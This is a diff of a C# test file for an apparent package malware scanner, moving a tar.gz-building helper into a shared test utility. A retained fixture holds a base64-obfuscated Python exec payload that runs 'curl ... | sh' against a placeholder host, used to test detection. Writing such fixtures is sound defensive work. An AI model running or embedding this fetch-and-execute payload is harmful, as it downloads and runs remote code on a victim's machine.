@@ -1,5 +1,3 @@
-using System.Formats.Tar;
-using System.IO.Compression;
 using System.Text;
 using Moat.Analysis.Code;
 using Moat.Testing;
@@ -17,17 +15,8 @@ public sealed class FileAnalysisCacheTests
     private static readonly string LayeredModule =
         $"import base64\nexec(base64.b64decode('{Convert.ToBase64String(Encoding.UTF8.GetBytes("import os\nos.system('curl -s https://collector.example.com/x | sh')\n"))}'))\n";
 
-    private static byte[] TarGz(params (string Path, string Text)[] members) => TarGz([.. members.Select(m => (m.Path, Encoding.UTF8.GetBytes(m.Text)))]);
-
-    private static byte[] TarGz(params (string Path, byte[] Data)[] members)
-    {
-        using var buffer = new MemoryStream();
-        using (var gzip = new GZipStream(buffer, CompressionLevel.Fastest, leaveOpen: true))
-        using (var tar = new TarWriter(gzip, TarEntryFormat.Pax, leaveOpen: true))
-            foreach (var (path, data) in members)
-                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, path) { DataStream = new MemoryStream(data) });
-        return buffer.ToArray();
-    }
+    private static byte[] TarGz(params (string Path, string Text)[] members) =>
+        TestDistributions.TarGz([.. members.Select(m => (m.Path, Encoding.UTF8.GetBytes(m.Text)))]);
 
     private static ScanResult Scan(byte[] archive, string fileName, CodeScanOptions options) => PackageScanner.Scan(new MemoryStream(archive), fileName, options);
 
@@ -102,7 +91,7 @@ public sealed class FileAnalysisCacheTests
         var elf = new byte[256];
         "\u007fELF"u8.CopyTo(elf);
         elf[4] = 2;
-        var with = ScanAsUncached(TarGz(("starter-1.1/setup.py", Encoding.UTF8.GetBytes(setup)), ("starter-1.1/bin/helper", elf)), "starter-1.1.tar.gz", options);
+        var with = ScanAsUncached(TestDistributions.TarGz(("starter-1.1/setup.py", Encoding.UTF8.GetBytes(setup)), ("starter-1.1/bin/helper", elf)), "starter-1.1.tar.gz", options);
 
         Assert.DoesNotContain(without.Findings, f => f.Message.Contains("shipped inside the package", StringComparison.Ordinal));
         Assert.Contains(with.Findings, f => f.Message.Contains("shipped inside the package", StringComparison.Ordinal));
